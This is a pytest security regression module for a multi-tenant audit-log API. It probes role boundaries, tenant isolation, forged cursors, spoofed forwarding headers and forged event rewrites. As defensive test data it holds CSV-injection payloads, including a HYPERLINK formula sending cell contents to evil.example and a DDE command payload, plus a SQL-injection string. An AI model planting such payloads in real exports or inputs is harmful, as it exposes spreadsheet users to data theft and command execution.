"""Every probe of issue 9, replayed against a running pipeline (``auditstream run`` as a child).

The probes an attacker with a key of each role tried on a fresh ``make run``: hostile
cursors, a spoofed ``X-Forwarded-For``, formulas in CSV exports, role boundaries on every
route of the OpenAPI schema (so a route added later is probed without editing this file),
reserved sources and unknown parameters. Every request goes through ``probe()``, which
fails on any 5xx; a leak check fails on any marker of the other tenant; a snapshot of the
stored events, taken before the probes and compared after them, fails on any rewrite.

Events get in through HTTP ingest (an ``ingest`` key), so the processor stores them
like any producer's. Forged replacements through ingest (first write wins) are the lead's
probes: see the section marked ``REWRITE-BY-INGEST`` below.
"""

from __future__ import annotations

import base64
import csv
import io
import time
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import orjson
import pytest

from auditstream.api.keys import KeyStore, Role
from tests.fixtures.kafka import new_topics
from tests.fixtures.pipeline import PipelineProcess, running_pipeline

pytestmark = [pytest.mark.kafka, pytest.mark.clickhouse, pytest.mark.pipeline]

A, B = "acme", "globex"
B_ACTOR = "b-secret-actor"
ROLES = [r.value for r in Role]
NOW = datetime.now(UTC).replace(microsecond=0) - timedelta(minutes=2)

# The right each route needs (Role.allows). A route missing here fails the matrix test:
# whoever adds a route decides who may call it.
ROUTE_RIGHT: dict[tuple[str, str], Role] = {
    ("GET", "/v1/events"): Role.READER,
    ("GET", "/v1/events/{event_id}"): Role.READER,
    ("GET", "/v1/stats"): Role.READER,
    ("GET", "/v1/live"): Role.READER,
    ("GET", "/v1/actors"): Role.READER,
    ("GET", "/v1/feed"): Role.EXPORTER,
    ("GET", "/v1/export"): Role.EXPORTER,
    ("GET", "/v1/exports"): Role.EXPORTER,
    ("POST", "/v1/exports"): Role.EXPORTER,
    ("GET", "/v1/exports/{export_id}"): Role.EXPORTER,
    ("GET", "/v1/exports/{export_id}/download"): Role.EXPORTER,
    ("POST", "/v1/events"): Role.INGEST,
    ("GET", "/v1/checkpoints"): Role.READER,
    ("GET", "/v1/checkpoints/key"): Role.READER,
    ("GET", "/v1/checkpoints/consistency"): Role.READER,
    ("GET", "/v1/events/{event_id}/proof"): Role.READER,
    ("GET", "/v1/alerts"): Role.READER,
    ("GET", "/v1/alerts/{alert_id}"): Role.READER,
    ("POST", "/v1/alerts/{alert_id}/acknowledge"): Role.ADMIN,
    ("POST", "/v1/alerts/{alert_id}/resolve"): Role.ADMIN,
    ("GET", "/v1/alerts/rules"): Role.ADMIN,
    ("POST", "/v1/alerts/rules"): Role.ADMIN,
    ("GET", "/v1/alerts/rules/{rule_id}"): Role.ADMIN,
    ("PATCH", "/v1/alerts/rules/{rule_id}"): Role.ADMIN,
    ("DELETE", "/v1/alerts/rules/{rule_id}"): Role.ADMIN,
}
# Routes whose plausible request needs objects this probe does not make (a sealed checkpoint,
# an alert, a rule): an allowed role must get neither 401/403 nor a 5xx (typically 404 or 422
# for the made-up ids and bodies); a refused role still gets 403 naming the right.
LOOSE = {k for k in ROUTE_RIGHT if "/checkpoints" in k[1] or "/proof" in k[1] or "/alerts" in k[1]}


def allowed_answer(method: str, path: str, r: httpx.Response) -> bool:
    if (method, path) in LOOSE:
        return r.status_code not in (401, 403) and r.status_code < 500
    return r.status_code < 400


FORMULAS = {
    "actor.name": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "actor.user_agent": "+cmd|' /C calc'!A0",
    "resource.name": "-1+2",
    "reason": "@SUM(1,2)",
    "resource.id": "\tTAB",
    "source.host": "\rCR",
}


def _iso(dt: datetime) -> str:
    return dt.isoformat(timespec="milliseconds").replace("+00:00", "Z")


def _event(tenant: str, n: int, **extra: Any) -> dict[str, Any]:
    return {
        "event_id": str(uuid.uuid4()),
        "tenant_id": tenant,
        "occurred_at": _iso(NOW - timedelta(seconds=n)),
        "action": "user.login",
        "actor": {"id": B_ACTOR if tenant == B else f"user-{n % 5}", "type": "user"},
        "resource": {"type": "scan", "id": f"scan-{n % 3}"},
        **extra,
    }


def _formula_event() -> dict[str, Any]:
    return _event(
        A,
        100,
        action="scan.created",
        actor={
            "id": "formula-actor",
            "type": "user",
            "name": FORMULAS["actor.name"],
            "user_agent": FORMULAS["actor.user_agent"],
        },
        resource={"type": "scan", "id": FORMULAS["resource.id"], "name": FORMULAS["resource.name"]},
        outcome="failure",
        reason=FORMULAS["reason"],
        source={"service": "scanner", "host": FORMULAS["source.host"]},
    )


class Probe:
    """The running pipeline, a key of every role per tenant, and the data loaded into it."""

    def __init__(self, pipeline: PipelineProcess) -> None:
        self.pipeline = pipeline
        self.http = httpx.Client(base_url=pipeline.url, timeout=30)
        keys = KeyStore(pipeline.data_dir / "keys.sqlite3")
        self.keys = {(t, r.value): keys.create(t, r, f"probe {r.value}") for t in (A, B) for r in Role}
        self.a_events = [_event(A, n) for n in range(20)] + [_formula_event()]
        self.b_events = [_event(B, n) for n in range(15)]
        self.markers = (B, B_ACTOR, *(e["event_id"] for e in self.b_events))
        self.snapshot: dict[str, dict[str, Any]] = {}
        self.a_job = ""
        self.b_job = ""

    def token(self, tenant: str, role: str) -> str:
        return self.keys[(tenant, role)].token

    def request(
        self,
        method: str,
        url: str,
        tenant: str,
        role: str,
        *,
        headers: dict[str, str] | None = None,
        **kw: Any,
    ) -> httpx.Response:
        """Every request of this file: a 5xx is a finding, whatever the probe."""
        h = {"Authorization": f"Bearer {self.token(tenant, role)}", **(headers or {})}
        r = self.http.request(method, url, headers=h, **kw)
        assert r.status_code < 500, (method, url, role, r.status_code, r.text[:300])
        assert "Traceback" not in r.text and "DB::Exception" not in r.text, (url, r.text[:300])
        return r

    def leaks(self, body: str) -> list[str]:
        return [m for m in self.markers if m in body]

    def ingest(self, tenant: str, events: list[dict[str, Any]]) -> None:
        body = b"\n".join(orjson.dumps(e) for e in events)
        r = self.request(
            "POST",
            "/v1/events",
            tenant,
            "ingest",
            content=body,
            headers={"Content-Type": "application/x-ndjson"},
        )
        assert r.status_code == 202, r.text

    def stored(self, key_tenant: str, role: str = "reader", **params: Any) -> list[dict[str, Any]]:
        r = self.request(
            "GET", "/v1/events", key_tenant, role, params={"since": "-1d", "limit": 1000, **params}
        )
        assert r.status_code == 200, r.text
        return r.json()["data"]

    def wait_stored(self, tenant: str, ids: set[str], within: float = 90, **params: Any) -> list[dict]:
        deadline = time.monotonic() + within
        while True:
            got = self.stored(tenant, **params)
            if ids <= {e["event_id"] for e in got}:
                return got
            assert time.monotonic() < deadline, f"not stored within {within}s: {len(ids)} events of {tenant}"
            time.sleep(0.3)

    def wait_for(self, tenant: str, within: float, **params: Any) -> list[dict[str, Any]]:
        """Events matching ``params`` once at least one is stored (polled with a deadline)."""
        deadline = time.monotonic() + within
        while True:
            got = self.stored(tenant, **params)
            if got:
                return got
            assert time.monotonic() < deadline, f"nothing matching {params} within {within}s"
            time.sleep(0.3)

    def job(self, tenant: str) -> str:
        r = self.request(
            "POST",
            "/v1/exports",
            tenant,
            "exporter",
            json={"name": "probe", "format": "csv", "filters": {"since": "-1d"}},
        )
        assert r.status_code == 202, r.text
        job_id = r.json()["id"]
        deadline = time.monotonic() + 60
        while (
            self.request("GET", f"/v1/exports/{job_id}", tenant, "exporter").json()["status"] != "completed"
        ):
            assert time.monotonic() < deadline, "export job did not complete"
            time.sleep(0.2)
        return job_id


@pytest.fixture(scope="module")
def probe(kafka_bootstrap: str, clickhouse_dsn: str) -> Iterator[Probe]:
    topics = new_topics(kafka_bootstrap)
    with running_pipeline(kafka_bootstrap, topics, clickhouse_dsn) as pipeline:
        p = Probe(pipeline)
        p.ingest(A, p.a_events)
        p.ingest(B, p.b_events)
        p.wait_stored(A, {e["event_id"] for e in p.a_events})
        p.wait_stored(B, {e["event_id"] for e in p.b_events})
        p.snapshot = {e["event_id"]: e for e in p.stored(A) + p.stored(B) if e["action"] != "export.created"}
        p.a_job, p.b_job = p.job(A), p.job(B)
        try:
            yield p
        finally:
            p.http.close()


def routes(probe: Probe) -> list[tuple[str, str, list[str]]]:
    """(method, path, query parameter names) of every /v1 route, from the OpenAPI schema."""
    schema = probe.http.get("/openapi.json").json()
    return [
        (method.upper(), path, [p["name"] for p in op.get("parameters", []) if p["in"] == "query"])
        for path, item in schema["paths"].items()
        if path.startswith("/v1/")
        for method, op in item.items()
    ]


def call(probe: Probe, method: str, path: str, key_tenant: str, role: str, **params: Any) -> httpx.Response:
    """One route with a plausible request of the key's own tenant (ids of ``tenant``'s objects)."""
    event_id = (probe.a_events if key_tenant == A else probe.b_events)[0]["event_id"]
    url = (
        path.replace("{event_id}", event_id)
        .replace("{export_id}", probe.a_job if key_tenant == A else probe.b_job)
        .replace("{alert_id}", "probe-alert")
        .replace("{rule_id}", "probe-rule")
    )
    if path == "/v1/live":
        params = {"max_seconds": 0.5, **params}
    if path == "/v1/actors":
        params = {"prefix": "b-secret" if key_tenant == B else "user", **params}
    if method == "POST" and path == "/v1/exports":
        return probe.request(
            method, url, key_tenant, role, params=params, json={"name": "probe", "filters": {"since": "-1d"}}
        )
    if method == "POST":
        # A harmless new event of the key's tenant: who may ingest is the question here.
        return probe.request(method, url, key_tenant, role, params=params, json=_event(key_tenant, 7))
    return probe.request(method, url, key_tenant, role, params=params)


# --- role boundaries on every route ---------------------------------------------------------


def test_every_route_has_a_declared_right(probe: Probe) -> None:
    assert {(m, p) for m, p, _ in routes(probe)} == set(ROUTE_RIGHT)


@pytest.mark.parametrize("role", ROLES)
def test_role_boundaries_on_every_route(probe: Probe, role: str) -> None:
    for method, path, _ in routes(probe):
        right = ROUTE_RIGHT[(method, path)]
        r = call(probe, method, path, A, role)
        if Role(role).allows(right):
            assert allowed_answer(method, path, r), (role, method, path, r.status_code, r.text[:300])
        else:
            assert r.status_code == 403 and r.json()["error"]["code"] == "forbidden", (
                role,
                method,
                path,
                r.text,
            )
            assert right.value in r.json()["error"]["message"]
        assert not probe.leaks(r.text), (role, method, path)


@pytest.mark.parametrize("role", ROLES)
def test_only_an_operator_reaches_another_tenant(probe: Probe, role: str) -> None:
    for method, path, names in routes(probe):
        if "tenant" not in names:
            continue
        right = ROUTE_RIGHT[(method, path)]
        # The ids in the path are B's: only a key that may act on B gets them.
        event_id, job = probe.b_events[0]["event_id"], probe.b_job
        url = (
            path.replace("{event_id}", event_id)
            .replace("{export_id}", job)
            .replace("{alert_id}", "probe-alert")
            .replace("{rule_id}", "probe-rule")
        )
        r = (
            call(probe, method, url, A, role, tenant=B)
            if "{" not in path
            else probe.request(method, url, A, role, params={"tenant": B})
        )
        if not Role(role).allows(right):
            assert r.status_code == 403, (role, path, r.text)
        elif Role(role).any_tenant:
            assert allowed_answer(method, path, r), (role, method, path, r.text[:300])
        else:
            assert r.status_code == 403 and r.json()["error"]["field"] == "tenant", (role, path, r.text)
            assert not probe.leaks(r.text)
        # Without tenant=, B's ids are not found from A (no existence oracle), whatever the role.
        if "{" in path and Role(role).allows(right):
            r = probe.request(method, url, A, role)
            expected = (404,) if (method, path) not in LOOSE else (404, 409, 422)
            assert r.status_code in expected and not probe.leaks(r.text), (role, path, r.text)


def test_operator_reads_the_other_tenant_only_when_it_says_so(probe: Probe) -> None:
    own = probe.stored(A, "operator")
    assert own and {e["tenant_id"] for e in own} == {A}
    other = probe.stored(A, "operator", tenant=B)
    assert {e["event_id"] for e in other} >= {e["event_id"] for e in probe.b_events}
    assert {e["tenant_id"] for e in other} == {B}


def test_ingest_by_a_non_ingest_key_stores_nothing(probe: Probe) -> None:
    refused = {
        role: _event(A, 50 + i, action="user.logout") for i, role in enumerate(ROLES) if role != "ingest"
    }
    for role, event in refused.items():
        r = probe.request("POST", "/v1/events", A, role, json=event)
        assert r.status_code == 403, (role, r.text)
    sentinel = _event(A, 60, action="user.logout")
    probe.ingest(A, [sentinel])  # same tenant key, same partition: stored after anything sent before
    stored = probe.wait_stored(A, {sentinel["event_id"]}, action="user.logout")
    assert not {e["event_id"] for e in refused.values()} & {e["event_id"] for e in stored}


def test_the_apis_own_trail_cannot_be_imitated(probe: Probe) -> None:
    for service in ("auditstream-api", "auditstream-cli"):
        fake = _event(A, 70, action="export.downloaded", source={"service": service})
        r = probe.request("POST", "/v1/events", A, "ingest", json=fake)
        assert r.status_code == 422 and r.json()["error"]["field"] == "0.source.service", r.text


# --- hostile cursors --------------------------------------------------------------------------


def _b64(data: dict[str, Any]) -> str:
    return base64.urlsafe_b64encode(orjson.dumps(data)).rstrip(b"=").decode()


def _unb64(text: str) -> dict[str, Any]:
    return orjson.loads(base64.urlsafe_b64decode(text + "=" * (-len(text) % 4)))


def test_hostile_events_cursors_are_400(probe: Probe) -> None:
    r = probe.request("GET", "/v1/events", A, "reader", params={"since": "-1d", "limit": 2})
    cursor = _unb64(r.json()["next_cursor"])
    year1 = {
        "t": "0001-01-01T00:00:00+00:00",
        "s": "0001-01-01T00:00:00+00:00",
        "u": "0001-01-02T00:00:00+00:00",
    }
    far = {
        "t": "9999-12-31T00:00:00+00:00",
        "s": "9999-12-30T00:00:00+00:00",
        "u": "9999-12-31T12:00:00+00:00",
    }
    for bad in (year1, far, {"t": "0001-01-01T00:00:00+00:00"}, {"s": "1990-01-01T00:00:00+00:00"}):
        r = probe.request(
            "GET",
            "/v1/events",
            A,
            "reader",
            params={"since": "-1d", "limit": 2, "cursor": _b64({**cursor, **bad})},
        )
        assert r.status_code == 400 and r.json()["error"]["field"] == "cursor", (bad, r.text)
    for bad_time in ("0001-01-01T00:00:00Z", "9999-01-01T00:00:00Z"):
        r = probe.request("GET", "/v1/events", A, "reader", params={"since": bad_time})
        assert r.status_code == 400 and r.json()["error"]["field"] == "since", r.text


def test_hostile_feed_cursors_are_400_also_as_last_event_id(probe: Probe) -> None:
    cursor = _unb64(
        probe.request("GET", "/v1/feed", A, "exporter", params={"start": "latest"}).json()["next_cursor"]
    )
    for partitions in ({"²": 5}, {"٣": 1}, {"１": 1}, {"0": -1}, {"99999999": 1}, {"0": "5"}):
        forged = _b64({**cursor, "p": partitions})
        r = probe.request("GET", "/v1/feed", A, "exporter", params={"cursor": forged})
        assert r.status_code == 400 and r.json()["error"]["field"] == "cursor", (partitions, r.text)
        r = probe.request(
            "GET", "/v1/live", A, "reader", params={"max_seconds": 0.5}, headers={"Last-Event-ID": forged}
        )
        assert r.status_code == 400 and r.json()["error"]["field"] == "Last-Event-ID", (partitions, r.text)
    # Another tenant's cursor, and garbage.
    b_cursor = probe.request("GET", "/v1/feed", B, "exporter", params={"start": "latest"}).json()[
        "next_cursor"
    ]
    for bad in (b_cursor, "x", "e30", "' OR 1=1 --", "A" * 5000):
        r = probe.request("GET", "/v1/feed", A, "exporter", params={"cursor": bad})
        assert r.status_code == 400, (bad[:40], r.text)


# --- spoofed X-Forwarded-For ---------------------------------------------------------------------


def test_spoofed_forwarded_for_is_not_the_actor_ip(probe: Probe) -> None:
    spoof = {"X-Forwarded-For": "6.6.6.6", "X-Real-IP": "6.6.6.7", "Forwarded": "for=6.6.6.8"}
    r = probe.request(
        "POST",
        "/v1/exports",
        A,
        "exporter",
        headers=spoof,
        json={"name": "spoofed", "filters": {"since": "-1d"}},
    )
    assert r.status_code == 202, r.text
    job_id = r.json()["id"]
    trail = [
        e
        for e in probe.wait_for(A, 60, action="export.created", resource_id=job_id)
        if e["resource"]["id"] == job_id
    ]
    assert trail and trail[0]["actor"]["ip"] == "127.0.0.1", trail


# --- CSV formulas ------------------------------------------------------------------------------------


def test_csv_exports_neutralise_formulas(probe: Probe) -> None:
    formula = probe.a_events[-1]["event_id"]
    r = probe.request("GET", "/v1/export", A, "exporter", params={"format": "csv", "since": "-1d"})
    assert r.status_code == 200
    records = {rec["event_id"]: rec for rec in csv.DictReader(io.StringIO(r.text, newline=""))}
    for column, value in FORMULAS.items():
        assert records[formula][column] == "'" + value, column
    for rec in records.values():  # no cell of any event starts like a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in rec.values()), rec
    # The job's file is made by the same code.
    job = probe.job(A)
    body = probe.request("GET", f"/v1/exports/{job}/download", A, "exporter").text
    jrec = {rec["event_id"]: rec for rec in csv.DictReader(io.StringIO(body, newline=""))}
    assert jrec[formula]["actor.name"] == "'" + FORMULAS["actor.name"]
    # NDJSON is data, not a spreadsheet: the values exactly as sent.
    r = probe.request("GET", "/v1/export", A, "exporter", params={"format": "ndjson", "since": "-1d"})
    got = {e["event_id"]: e for e in map(orjson.loads, r.content.splitlines())}
    assert got[formula]["actor"]["name"] == FORMULAS["actor.name"]
    assert got[formula]["reason"] == FORMULAS["reason"]


# --- unknown parameters, retention --------------------------------------------------------------------


def test_unknown_parameters_are_400_naming_them(probe: Probe) -> None:
    for method, path, _ in routes(probe):
        role = "ingest" if ROUTE_RIGHT[(method, path)] is Role.INGEST else "operator"
        for bogus in ("actions", "tennant", "ouctome"):
            r = call(probe, method, path, A, role, **{bogus: "x"})
            assert r.status_code == 400, (method, path, bogus, r.text)
            assert r.json()["error"] == {
                "code": "unknown_parameter",
                "field": bogus,
                "message": r.json()["error"]["message"],
            }


def test_export_job_applies_the_retention(probe: Probe) -> None:
    r = probe.request(
        "POST",
        "/v1/exports",
        A,
        "exporter",
        json={"name": "too old", "filters": {"since": "-400d", "until": "-390d"}},
    )
    assert r.status_code == 400 and r.json()["error"]["code"] == "out_of_retention", r.text


# --- REWRITE-BY-INGEST --------------------------------------------------------------------------------
# The forged replacement of issue 9: an ingest key sends stored event_ids (same occurred_at)
# with other content, for its own tenant and for the API's own trail. tests/pipeline/
# test_first_write_wins.py checks each way in; here the snapshot check below must still hold
# once the forgeries have gone through the processor.


def test_forged_replacements_through_ingest_change_nothing(probe: Probe) -> None:
    victims = [e for e in probe.snapshot.values() if e["tenant_id"] == A][:5]
    assert victims
    forged = [
        {
            "event_id": e["event_id"],
            "occurred_at": e["occurred_at"],
            "tenant_id": A,
            "action": "user.logout",
            "actor": {"id": "nobody"},
        }
        for e in victims
    ]
    probe.ingest(A, forged)  # accepted into Kafka: only the processor knows what is stored
    trail = probe.request(
        "POST",
        "/v1/events",
        A,
        "ingest",
        content=orjson.dumps(
            {**forged[0], "action": "export.downloaded", "source": {"service": "auditstream-api"}}
        ),
        headers={"Content-Type": "application/json"},
    )
    assert trail.status_code == 422 and trail.json()["error"]["errors"][0]["field"] == "source.service"
    # The same partition (keyed by tenant) in order: once this one is stored, the forgeries
    # before it have been settled.
    sentinel = _event(A, 999)
    probe.ingest(A, [sentinel])
    probe.wait_stored(A, {sentinel["event_id"]})
    for e in victims:
        r = probe.request("GET", f"/v1/events/{e['event_id']}", A, "reader")
        assert r.status_code == 200 and r.json() == e


def test_zz_no_probe_changed_or_hid_a_stored_event(probe: Probe) -> None:
    # Named to run last in this module (pytest keeps file order; the prefix says so too).
    now = {e["event_id"]: e for e in probe.stored(A, "operator") + probe.stored(A, "operator", tenant=B)}
    for event_id, before in probe.snapshot.items():
        assert now.get(event_id) == before, event_id
    for event_id, before in list(probe.snapshot.items())[:5]:
        tenant = before["tenant_id"]
        r = probe.request("GET", f"/v1/events/{event_id}", tenant, "reader")
        assert r.status_code == 200 and r.json() == before
